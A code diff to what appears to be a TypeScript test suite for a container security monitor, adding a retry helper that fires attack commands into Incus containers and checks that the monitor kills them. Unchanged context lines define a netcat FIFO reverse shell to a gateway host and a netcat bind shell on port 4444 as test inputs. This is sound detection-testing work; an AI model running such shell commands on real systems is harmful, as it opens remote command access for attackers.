@@ -82,6 +82,19 @@ while True:
 const FIFO_LOOP = `rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh 2>&1 | nc ${GATEWAY} ${PORT} > /tmp/f\n`;
 const BIND_SHELL = 'rm -f /tmp/b; mkfifo /tmp/b; nc -l -p 4444 < /tmp/b | sh > /tmp/b 2>&1\n';
 
+/**
+ * Runs the attack without waiting for it; again when Incus could not start the exec (-1, which
+ * happens now and then), unless it ran a while or something was recorded already.
+ */
+async function fire(container: string, command: string[]): Promise<void> {
+  for (let attempt = 1; attempt <= 3; attempt++) {
+    const started = Date.now();
+    const r = await bed.incus.exec.run(container, command).catch(() => undefined);
+    if (r?.exitCode !== -1 || Date.now() - started > 2000) return;
+    if ((await bed.records(container)).length > 0) return;
+  }
+}
+
 /** Launches a container, pushes `files`, fires `command`, and waits for the kill. */
 async function attack(
   label: string,
@@ -91,7 +104,7 @@ async function attack(
   const c = await bed.launch(label);
   for (const [path, text] of Object.entries(files))
     await bed.incus.files.push(c.name, path, Buffer.from(text));
-  bed.fire(c.name, command);
+  void fire(c.name, command);
   const record = await bed.waitForRecord(c.name, (r) => r.level === 'critical');
   await bed.waitForStatus(c.name, undefined);
   expect(record.action).toBe('killed');
